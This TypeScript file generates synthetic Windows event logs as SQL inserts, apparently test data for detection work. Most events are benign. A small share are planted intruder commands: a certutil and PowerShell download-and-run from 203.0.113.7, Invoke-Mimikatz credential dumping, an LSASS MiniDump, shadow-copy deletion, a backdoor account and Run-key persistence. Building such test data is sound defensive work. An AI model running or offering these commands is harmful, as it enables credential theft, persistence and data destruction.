/**
 * A quiet Windows estate as SQL: each event is one of some templates, chosen by a hash of its number, with numbers, users and hosts of that hash put in. About one in two
 * thousand is what an intruder does.
 */
interface Template {
  readonly provider: string;
  readonly channel: string;
  readonly id: number;
  /** Of a hundred thousand events. */
  readonly share: number;
  readonly data: Readonly<Record<string, string>>;
}

const sysmon = (id: number, share: number, data: Record<string, string>): Template => ({
  provider: 'Microsoft-Windows-Sysmon',
  channel: 'Microsoft-Windows-Sysmon/Operational',
  id,
  share,
  data: {
    UtcTime: '2026-01-01 00:00:00.000',
    ProcessGuid: '{8d2f{h}-0000-0000-0000-0000000{n}}',
    ProcessId: '{m}',
    ...data,
  },
});

const windows = 'C:\\Windows\\System32\\';
const system = 'NT AUTHORITY\\SYSTEM';
const svchost = `${windows}svchost.exe`;
const agent = 'C:\\Program Files\\Contoso\\Agent\\agent.exe';
const chrome = 'C:\\Program Files\\Google\\Chrome\\Application\\chrome.exe';
const code = 'C:\\Users\\{u}\\AppData\\Local\\Programs\\Microsoft VS Code\\Code.exe';
const office = 'C:\\Program Files\\Microsoft Office\\root\\Office16\\';

/** Image, command line, parent, parent's command line, user. */
type Started = readonly [image: string, line: string, parent: string, parentLine: string, user: string];
const quietStarts: readonly Started[] = [
  [svchost, `${svchost} -k netsvcs -p -s Schedule`, `${windows}services.exe`, `${windows}services.exe`, system],
  [
    `${windows}conhost.exe`,
    `\\??\\${windows}conhost.exe 0xffffffff -ForceV1`,
    `${windows}cmd.exe`,
    `${windows}cmd.exe /c "C:\\Program Files\\Contoso\\Agent\\poll.bat" {n}`,
    system,
  ],
  [
    `${windows}cmd.exe`,
    `${windows}cmd.exe /c "C:\\Program Files\\Contoso\\Agent\\poll.bat" {n}`,
    agent,
    `"${agent}" --service`,
    system,
  ],
  [
    `${windows}WindowsPowerShell\\v1.0\\powershell.exe`,
    'powershell.exe -NoProfile -File "C:\\Program Files\\Contoso\\Agent\\inventory.ps1" -Id {n}',
    agent,
    `"${agent}" --service`,
    system,
  ],
  [
    `${windows}reg.exe`,
    'reg query "HKLM\\SOFTWARE\\Contoso\\Agent" /v Version',
    `${windows}cmd.exe`,
    `${windows}cmd.exe /c "C:\\Program Files\\Contoso\\Agent\\poll.bat" {n}`,
    system,
  ],
  [
    chrome,
    `"${chrome}" --type=renderer --lang=en-US --num-raster-threads=4 --renderer-client-id={n} --field-trial-handle={m},i,{n} /prefetch:1`,
    chrome,
    `"${chrome}"`,
    'CONTOSO\\{u}',
  ],
  [
    chrome,
    `"${chrome}" --type=utility --utility-sub-type=network.mojom.NetworkService --service-sandbox-type=none --mojo-platform-channel-handle={n}`,
    chrome,
    `"${chrome}"`,
    'CONTOSO\\{u}',
  ],
  [
    `${office}OUTLOOK.EXE`,
    `"${office}OUTLOOK.EXE"`,
    'C:\\Windows\\explorer.exe',
    'C:\\Windows\\Explorer.EXE',
    'CONTOSO\\{u}',
  ],
  [
    `${office}WINWORD.EXE`,
    `"${office}WINWORD.EXE" /n "C:\\Users\\{u}\\Documents\\Report {n}.docx" /o ""`,
    'C:\\Windows\\explorer.exe',
    'C:\\Windows\\Explorer.EXE',
    'CONTOSO\\{u}',
  ],
  [`${windows}taskhostw.exe`, 'taskhostw.exe Logon', svchost, `${svchost} -k netsvcs -p -s Schedule`, 'CONTOSO\\{u}'],
  [
    `${windows}backgroundTaskHost.exe`,
    `"${windows}backgroundTaskHost.exe" -ServerName:CortanaUI.AppX{n}.mca`,
    svchost,
    `${svchost} -k DcomLaunch -p`,
    'CONTOSO\\{u}',
  ],
  [
    `${windows}RuntimeBroker.exe`,
    `${windows}RuntimeBroker.exe -Embedding`,
    svchost,
    `${svchost} -k DcomLaunch -p`,
    'CONTOSO\\{u}',
  ],
  [
    `${windows}SearchProtocolHost.exe`,
    `"${windows}SearchProtocolHost.exe" Global\\UsGthrFltPipeMssGthrPipe{n}_ 1 -2147483646 "Software\\Microsoft\\Windows Search"`,
    `${windows}SearchIndexer.exe`,
    `${windows}SearchIndexer.exe /Embedding`,
    system,
  ],
  [
    `${windows}wbem\\WmiPrvSE.exe`,
    `${windows}wbem\\wmiprvse.exe -secured -Embedding`,
    svchost,
    `${svchost} -k DcomLaunch -p`,
    system,
  ],
  [
    `${windows}dllhost.exe`,
    `${windows}DllHost.exe /Processid:{AB8902B4-09CA-4BB6-B78D-A8F59079A8D5}`,
    svchost,
    `${svchost} -k DcomLaunch -p`,
    'CONTOSO\\{u}',
  ],
  [
    `${windows}rundll32.exe`,
    `${windows}rundll32.exe ${windows}PcaSvc.dll,PcaPatchSdbTask`,
    svchost,
    `${svchost} -k netsvcs -p -s PcaSvc`,
    system,
  ],
  [
    'C:\\Program Files\\Git\\cmd\\git.exe',
    'git.exe fetch --no-tags origin refs/heads/feature-{n}',
    code,
    `"${code}" --type=extensionHost`,
    'CONTOSO\\{u}',
  ],
  [
    'C:\\Program Files\\nodejs\\node.exe',
    '"C:\\Program Files\\nodejs\\node.exe" C:\\src\\app\\node_modules\\typescript\\lib\\tsserver.js --cancellationPipeName C:\\Users\\{u}\\AppData\\Local\\Temp\\{n}\\cancellation.tmp*',
    code,
    `"${code}" --type=extensionHost`,
    'CONTOSO\\{u}',
  ],
  [
    'C:\\Program Files\\Windows Defender\\MpCmdRun.exe',
    '"C:\\Program Files\\Windows Defender\\MpCmdRun.exe" SpyNetServiceDss -RestrictPrivileges -AccessKey {n} -Reinvoke',
    svchost,
    `${svchost} -k netsvcs -p`,
    system,
  ],
  [
    'C:\\Program Files\\7-Zip\\7z.exe',
    '"C:\\Program Files\\7-Zip\\7z.exe" x C:\\Users\\{u}\\Downloads\\data-{n}.zip',
    'C:\\Windows\\explorer.exe',
    'C:\\Windows\\Explorer.EXE',
    'CONTOSO\\{u}',
  ],
];
const intruderStarts: readonly Started[] = [
  [
    `${windows}WindowsPowerShell\\v1.0\\powershell.exe`,
    'powershell.exe -nop -w hidden -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAIABOAGUAdAAuAFcAZQBiAEMA',
    `${office}WINWORD.EXE`,
    `"${office}WINWORD.EXE" /n "C:\\Users\\{u}\\Downloads\\invoice.docm"`,
    'CONTOSO\\{u}',
  ],
  [
    `${windows}vssadmin.exe`,
    'vssadmin.exe delete shadows /all /quiet',
    `${windows}cmd.exe`,
    'cmd.exe /c vssadmin.exe delete shadows /all /quiet',
    system,
  ],
  [`${windows}whoami.exe`, 'whoami /all', `${windows}cmd.exe`, 'cmd.exe', 'CONTOSO\\{u}'],
  [
    `${windows}rundll32.exe`,
    `rundll32.exe ${windows}comsvcs.dll, MiniDump 624 C:\\Users\\Public\\lsass.dmp full`,
    `${windows}cmd.exe`,
    'cmd.exe',
    system,
  ],
  [
    `${windows}certutil.exe`,
    'certutil.exe -urlcache -split -f http://203.0.113.7/a.exe C:\\Users\\Public\\a.exe',
    `${windows}cmd.exe`,
    'cmd.exe',
    'CONTOSO\\{u}',
  ],
  [`${windows}net.exe`, 'net user backdoor P@ssw0rd1 /add', `${windows}cmd.exe`, 'cmd.exe', 'CONTOSO\\{u}'],
];

const start = (share: number, [Image, CommandLine, ParentImage, ParentCommandLine, User]: Started): Template =>
  sysmon(1, share, {
    Image,
    CommandLine,
    CurrentDirectory: windows,
    FileVersion: '10.0.19041.1 (WinBuild.160101.0800)',
    Description: '-',
    Product: 'Microsoft® Windows® Operating System',
    Company: 'Microsoft Corporation',
    OriginalFileName: Image.slice(Image.lastIndexOf('\\') + 1),
    User,
    LogonId: '0x{h}',
    IntegrityLevel: User === system ? 'System' : 'Medium',
    Hashes: 'SHA256={s},IMPHASH={h}{h}',
    ParentImage,
    ParentCommandLine,
    ParentUser: User,
    ParentProcessId: '{m}',
  });

const logon = (id: number, share: number, data: Record<string, string>): Template => ({
  provider: 'Microsoft-Windows-Security-Auditing',
  channel: 'Security',
  id,
  share,
  data,
});

const templates: readonly Template[] = [
  ...quietStarts.map((one) => start(1_000, one)),
  ...intruderStarts.map((one) => start(5, one)),
  ...[
    [chrome, 'www.contoso.example', '443'],
    [svchost, 'update.contoso.example', '443'],
    [agent, 'agents.contoso.example', '8443'],
    [`${office}OUTLOOK.EXE`, 'mail.contoso.example', '443'],
  ].map(([Image = '', DestinationHostname = '', DestinationPort = '']) =>
    sysmon(3, 5_000, {
      Image,
      User: 'CONTOSO\\{u}',
      Protocol: 'tcp',
      Initiated: 'true',
      SourceIsIpv6: 'false',
      SourceIp: '10.1.{b}.{b}',
      SourcePort: '5{m}',
      DestinationIsIpv6: 'false',
      DestinationIp: '198.51.100.{b}',
      DestinationHostname,
      DestinationPort,
    }),
  ),
  ...['ntdll.dll', 'kernel32.dll', 'user32.dll', 'combase.dll', 'bcrypt.dll'].map((dll) =>
    sysmon(7, 3_500, {
      Image: svchost,
      ImageLoaded: `${windows}${dll}`,
      FileVersion: '10.0.19041.1',
      Description: 'Windows',
      Product: 'Microsoft® Windows® Operating System',
      Company: 'Microsoft Corporation',
      OriginalFileName: dll,
      Hashes: 'SHA256={s},IMPHASH={h}{h}',
      Signed: 'true',
      Signature: 'Microsoft Windows',
      SignatureStatus: 'Valid',
      User: system,
    }),
  ),
  sysmon(10, 4_000, {
    SourceImage: svchost,
    TargetImage: `${windows}lsass.exe`,
    GrantedAccess: '0x1000',
    CallTrace: `${windows}ntdll.dll+9d234|${windows}KERNELBASE.dll+2f13e`,
    SourceUser: system,
    TargetUser: system,
  }),
  sysmon(10, 10, {
    SourceImage: 'C:\\Users\\Public\\a.exe',
    TargetImage: `${windows}lsass.exe`,
    GrantedAccess: '0x1410',
    CallTrace: `${windows}ntdll.dll+9d234|UNKNOWN(000001)`,
    SourceUser: 'CONTOSO\\{u}',
    TargetUser: system,
  }),
  ...[
    'C:\\Users\\{u}\\AppData\\Local\\Google\\Chrome\\User Data\\Default\\Cache\\f_{n}',
    'C:\\Users\\{u}\\Documents\\~$Report {n}.docx',
    'C:\\Windows\\Prefetch\\CHROME.EXE-{h}.pf',
    'C:\\ProgramData\\Contoso\\Agent\\state-{n}.json',
  ].map((TargetFilename) =>
    sysmon(11, 4_000, {
      Image: chrome,
      TargetFilename,
      CreationUtcTime: '2026-01-01 00:00:00.000',
      User: 'CONTOSO\\{u}',
    }),
  ),
  ...[
    'HKLM\\SOFTWARE\\Contoso\\Agent\\LastRun',
    'HKU\\S-1-5-21-1-2-3-{n}\\SOFTWARE\\Microsoft\\Office\\16.0\\Word\\Reading Locations\\Document {m}',
    'HKLM\\System\\CurrentControlSet\\Services\\bam\\State\\UserSettings\\S-1-5-18',
    'HKU\\S-1-5-21-1-2-3-{n}\\SOFTWARE\\Microsoft\\Windows\\CurrentVersion\\Explorer\\RecentDocs\\{m}',
  ].map((TargetObject) =>
    sysmon(13, 3_500, { EventType: 'SetValue', Image: svchost, TargetObject, Details: 'DWORD (0x{h})', User: system }),
  ),
  sysmon(13, 10, {
    EventType: 'SetValue',
    Image: `${windows}reg.exe`,
    TargetObject: 'HKLM\\SOFTWARE\\Microsoft\\Windows\\CurrentVersion\\Run\\updater',
    Details: 'C:\\Users\\Public\\a.exe',
    User: 'CONTOSO\\{u}',
  }),
  ...['www.contoso.example', 'cdn{m}.contoso.example', 'login.contoso.example'].map((QueryName) =>
    sysmon(22, 2_000, {
      QueryName,
      QueryStatus: '0',
      QueryResults: '::ffff:198.51.100.{b};',
      Image: chrome,
      User: 'CONTOSO\\{u}',
    }),
  ),
  {
    provider: 'Microsoft-Windows-PowerShell',
    channel: 'Microsoft-Windows-PowerShell/Operational',
    id: 4104,
    share: 1_500,
    data: {
      MessageNumber: '1',
      MessageTotal: '1',
      ScriptBlockText:
        'function Get-Inventory { param([int]$Id) Get-CimInstance Win32_OperatingSystem | Select-Object Caption, Version; Get-ChildItem "C:\\Program Files" | Measure-Object; return {n} }',
      ScriptBlockId: '{h}',
      Path: 'C:\\Program Files\\Contoso\\Agent\\inventory.ps1',
    },
  },
  {
    provider: 'Microsoft-Windows-PowerShell',
    channel: 'Microsoft-Windows-PowerShell/Operational',
    id: 4104,
    share: 5,
    data: {
      MessageNumber: '1',
      MessageTotal: '1',
      ScriptBlockText:
        "IEX (New-Object Net.WebClient).DownloadString('http://203.0.113.7/p.ps1'); Invoke-Mimikatz -DumpCreds",
      ScriptBlockId: '{h}',
      Path: '',
    },
  },
  logon(4624, 5_000, {
    TargetUserName: '{u}',
    TargetDomainName: 'CONTOSO',
    SubjectUserName: 'PC{b}$',
    SubjectDomainName: 'CONTOSO',
    LogonType: '3',
    AuthenticationPackageName: 'Kerberos',
    LogonProcessName: 'Kerberos',
    IpAddress: '10.1.{b}.{b}',
    WorkstationName: 'PC{b}',
  }),
  logon(4672, 3_000, {
    SubjectUserName: 'SYSTEM',
    SubjectDomainName: 'NT AUTHORITY',
    PrivilegeList: 'SeTcbPrivilege SeDebugPrivilege',
  }),
  logon(4634, 3_000, { TargetUserName: '{u}', TargetDomainName: 'CONTOSO', LogonType: '3' }),
  logon(4688, 3_000, {
    NewProcessName: `${windows}taskhostw.exe`,
    CommandLine: 'taskhostw.exe Logon',
    ParentProcessName: svchost,
    SubjectUserName: 'PC{b}$',
    SubjectDomainName: 'CONTOSO',
    MandatoryLabel: 'S-1-16-16384',
  }),
  logon(4625, 50, {
    TargetUserName: '{u}',
    TargetDomainName: 'CONTOSO',
    LogonType: '3',
    IpAddress: '203.0.113.{b}',
    Status: '0xc000006d',
    SubStatus: '0xc000006a',
  }),
];

const text = (value: string): string => `'${value.replaceAll('\\', '\\\\').replaceAll("'", String.raw`\'`)}'`;
const array = (values: readonly string[]): string => `[${values.map(text).join(', ')}]`;

/** Statements that fill the tables with the events of the numbers from `from` on, `count` together. */
export function inserts(from: number, count: number, segment: string): readonly string[] {
  const of = (isSecurity: boolean) => {
    const own = templates.filter(({ channel }) => (channel === 'Security') === isSecurity);
    const all = templates.reduce((sum, { share }) => sum + share, 0);
    const first = isSecurity ? all - own.reduce((sum, { share }) => sum + share, 0) : 0;
    let sum = first;
    // Shares as the ends of intervals: the template is the first whose end is past the draw.
    const ends = own.map(({ share }) => (sum += share));
    return { own, all, first, ends };
  };
  const rows = ({ all, first, ends }: ReturnType<typeof of>) =>
    `(SELECT number AS n, cityHash64(number) AS h, (h % ${all}) AS draw, arrayFirstIndex(e -> e > draw, [${ends.join(', ')}]) AS k
      FROM numbers(${from}, ${count}) WHERE draw >= ${first} AND draw < ${ends.at(-1)})`;
  const put = (value: string): string =>
    [
      ['{n}', 'toString(h % 1000003)'],
      ['{m}', 'toString(h % 65521)'],
      ['{b}', 'toString(h % 251)'],
      ['{u}', "concat('user', toString(h % 499))"],
      ['{h}', 'lower(hex(toUInt32(h)))'],
      ['{s}', 'hex(sipHash128(h))'],
    ].reduce((sofar, [mark = '', with_ = '']) => `replaceAll(${sofar}, '${mark}', ${with_})`, value);
  const time = "toDateTime64('2026-01-01 00:00:00', 7, 'UTC') + toIntervalMicrosecond(n * 100)";
  const other = of(false);
  const security = of(true);
  const fields = [...new Set(security.own.flatMap(({ data }) => Object.keys(data)))];
  const typed = (name: string, value: string): string => (name === 'LogonType' ? `toInt32OrNull(${value})` : value);
  return [
    `INSERT INTO WindowsEvent (TimeGenerated, Provider, Channel, EventID, Computer, EventData, _SegmentId)
     SELECT ${time}, ${array(other.own.map(({ provider }) => provider))}[k], ${array(other.own.map(({ channel }) => channel))}[k],
       [${other.own.map(({ id }) => id).join(', ')}][k], concat('pc', toString(h % 251), '.contoso.example'),
       ${put(`${array(other.own.map(({ data }) => JSON.stringify(data)))}[k]`)}, ${text(segment)} FROM ${rows(other)}`,
    `INSERT INTO SecurityEvent (TimeGenerated, EventSourceName, Channel, EventID, Computer, ${fields.join(', ')}, _SegmentId)
     SELECT ${time}, 'Microsoft-Windows-Security-Auditing', 'Security', [${security.own.map(({ id }) => id).join(', ')}][k],
       concat('pc', toString(h % 251), '.contoso.example'),
       ${fields.map((name) => typed(name, put(`${array(security.own.map(({ data }) => data[name] ?? ''))}[k]`))).join(', ')}, ${text(segment)} FROM ${rows(security)}`,
  ];
}
